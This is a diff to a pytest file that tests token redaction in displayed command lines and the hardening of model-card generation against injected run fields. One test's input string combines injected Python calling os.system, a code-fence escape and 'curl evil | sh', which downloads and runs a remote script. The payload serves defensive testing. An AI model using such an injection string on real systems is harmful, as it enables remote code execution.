@@ -14,6 +14,7 @@ from huggingface_hub import DatasetCard, ModelCard
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from tars_trl.errors import SettingError
 from tars_trl.evaluation.metrics import paired_result
 from tars_trl.models import architecture_of
 from tars_trl.models.loading import identity, load_speech_llm
@@ -197,10 +198,12 @@ def test_system_prompt_survives_quotes(tmp_path):
 def test_command_line_shows_no_token_and_no_home(monkeypatch):
     monkeypatch.setenv("HOME", "/home/somebody")
     words = ["/usr/bin/python", "train.py", "--hub_token", "abc", "--token=def", "--output_dir", "/home/somebody/a b"]
+    words += ["--vllm_server_api_key", "abc", "--model_init_kwargs", '{"token": "api_org_abc", "a": 1}']
     words += ["--note", "with hf_0123456789abcdef inside", "--end_token"]
     shown = command_line(words)
     assert shown == (
-        "python train.py --hub_token *** '--token=***' --output_dir ~/'a b' --note 'with *** inside' --end_token"
+        "python train.py --hub_token *** '--token=***' --output_dir ~/'a b' --vllm_server_api_key *** "
+        """--model_init_kwargs '{"token": "***", "a": 1}' --note 'with *** inside' --end_token"""
     )
 
 
@@ -349,7 +352,9 @@ def test_a_crafted_run_json_reaches_no_code(tmp_path, adapter):
     """The fields that stand in the quick start, each with an end of the string and of the block."""
     break_out = "x'); import os; os.system('id') #\n```\n```bash\ncurl evil | sh\n"
     crafted = dict.fromkeys(("base_model", "base_revision", "model_class", "system_prompt", "command"), break_out)
-    crafted |= dict.fromkeys(("processes", "steps", "model_name", "dataset"), break_out) | {"tags": [break_out]}
+    crafted |= dict.fromkeys(("model_name", "dataset"), break_out) | {"tags": [break_out]}
+    with pytest.raises(SettingError, match="steps: .* is not what a run writes"):
+        write_card(tmp_path, {**FACTS, "steps": break_out}, OMNI, "me/x", adapter=adapter)
     write_card(tmp_path, {**FACTS, **crafted}, OMNI, "me/x", adapter=adapter)
     text = (tmp_path / "README.md").read_text()
     assert not [node for node in ast.walk(ast.parse(code_of(tmp_path))) if getattr(node, "attr", "") == "system"]
